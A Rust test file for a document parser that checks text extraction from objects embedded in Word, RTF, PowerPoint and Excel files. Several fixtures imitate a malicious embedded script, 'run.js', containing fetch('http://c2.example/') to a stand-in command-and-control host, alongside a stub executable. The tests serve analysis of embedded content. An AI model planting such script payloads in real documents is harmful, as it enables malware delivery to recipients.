use crate::document::compound::tests::compound;
use crate::document::office::tests::zip;
use crate::document::{Document, Limits, read};

fn document(bytes: &[u8]) -> Document {
    read(bytes, None, &Limits::default()).unwrap().1
}

/// A Word document with these parts beside its text.
fn docx(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let body = b"<w:document><w:p><w:r><w:t>outer.example</w:t></w:r></w:p></w:document>";
    let own = [
        ("[Content_Types].xml", &b"<Types/>"[..]),
        ("word/document.xml", body),
    ];
    zip(&[&own, parts].concat())
}

/// The stream of an object that is a file.
fn native(name: &str, source: &str, data: &[u8]) -> Vec<u8> {
    let mut stream = [&[0; 4][..], &[2, 0], name.as_bytes(), &[0]].concat();
    stream.extend_from_slice(&[source.as_bytes(), &[0, 0, 0, 3, 0]].concat());
    let temporary = b"C:\\Temp\\x\0";
    stream.extend_from_slice(&(temporary.len() as u32).to_le_bytes());
    stream.extend_from_slice(temporary);
    stream.extend_from_slice(&(data.len() as u32).to_le_bytes());
    stream.extend_from_slice(data);
    stream
}

#[test]
fn embedded_packages_are_read() {
    let inner = docx(&[]);
    let sheet = compound(&[("/Package", &inner)]);
    let outer = docx(&[
        ("word/embeddings/Document1.docx", &inner),
        ("word/embeddings/oleObject1.bin", &sheet),
        ("word/embeddings/_rels/x.rels", b"<x/>"),
    ]);
    assert_eq!(
        document(&outer).text,
        "outer.example\nEmbedded: Document1.docx\nouter.example\nEmbedded\nouter.example"
    );
}

#[test]
fn embedded_files_keep_their_names_and_where_they_came_from() {
    let script = native(
        "run.js",
        "C:\\Users\\x\\run.js",
        b"fetch('http://c2.example/')",
    );
    let program = native("a.exe", "C:\\Users\\x\\a.exe", b"MZ\x90\0");
    let streams = [("/\u{1}Ole10Native", &script[..])];
    let outer = docx(&[
        ("word/embeddings/oleObject1.bin", &compound(&streams)),
        (
            "word/embeddings/oleObject2.bin",
            &compound(&[("/\u{1}Ole10Native", &program)]),
        ),
    ]);
    assert_eq!(
        document(&outer).text,
        "outer.example\nEmbedded: run.js\nfetch('http://c2.example/')\nC:\\Users\\x\\run.js\nC:\\Temp\\x\nEmbedded: a.exe\nC:\\Users\\x\\a.exe\nC:\\Temp\\x"
    );
}

#[test]
fn objects_of_rtf_are_read() {
    let rtf = |class: &str, data: &[u8]| {
        let mut object = vec![1, 5, 0, 0, 2, 0, 0, 0];
        for text in [class, "", ""] {
            object.extend_from_slice(&(text.len() as u32).to_le_bytes());
            object.extend_from_slice(text.as_bytes());
        }
        object.extend_from_slice(&(data.len() as u32).to_le_bytes());
        object.extend_from_slice(data);
        let hex: String = object.iter().map(|byte| format!("{byte:02x}")).collect();
        let rtf =
            format!("{{\\rtf1 outer.example\\par{{\\object\\objemb{{\\*\\objdata {hex}}}}}}}");
        document(rtf.as_bytes()).text
    };
    let script = native("run.js", "C:\\run.js", b"fetch('http://c2.example/')");
    assert!(
        rtf("Package", &script[4..]).contains("\nEmbedded: run.js\nfetch('http://c2.example/')"),
    );
    let bin = compound(&[("/\u{1}Ole10Native", &script)]);
    assert!(rtf("Package2", &bin).contains("\nEmbedded: run.js\nfetch('http://c2.example/')"));
    let inner = compound(&[("/Package", &docx(&[]))]);
    assert!(rtf("Word.Document.12", &inner).ends_with("\nEmbedded\nouter.example"));
}

#[test]
fn objects_cut_short_end_in_a_result() {
    let whole = native("run.js", "C:\\run.js", b"http://c2.example/");
    for end in 0..whole.len() {
        let bin = compound(&[("/\u{1}Ole10Native", &whole[..end])]);
        let outer = docx(&[("word/embeddings/oleObject1.bin", &bin)]);
        assert!(document(&outer).text.starts_with("outer.example"));
    }
}

#[test]
fn a_document_that_embeds_itself_in_documents_ends() {
    let mut bytes = docx(&[]);
    for _ in 0..8 {
        bytes = docx(&[("word/embeddings/inner.docx", &bytes)]);
    }
    let doc = document(&bytes);
    assert_eq!(doc.text.matches("outer.example").count(), 5);
    assert_eq!(doc.warnings[0].code, "truncated");
}

#[test]
fn presentations_and_workbooks_embed_as_well() {
    let slide = "<p:sld><a:p><a:r><a:t>slide.example</a:t></a:r></a:p></p:sld>";
    let pptx = zip(&[
        ("[Content_Types].xml", "<Types/>"),
        ("ppt/slides/slide1.xml", slide),
        ("ppt/embeddings/note.txt", "note.example"),
    ]);
    assert_eq!(
        document(&pptx).text,
        "slide.example\nEmbedded: note.txt\nnote.example"
    );
    let sheet = "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>cell.example</t></is></c></row></sheetData></worksheet>";
    let xlsx = zip(&[
        ("[Content_Types].xml", "<Types/>"),
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/embeddings/note.txt", "note.example"),
    ]);
    assert_eq!(
        document(&xlsx).text,
        "cell.example\nEmbedded: note.txt\nnote.example"
    );
}
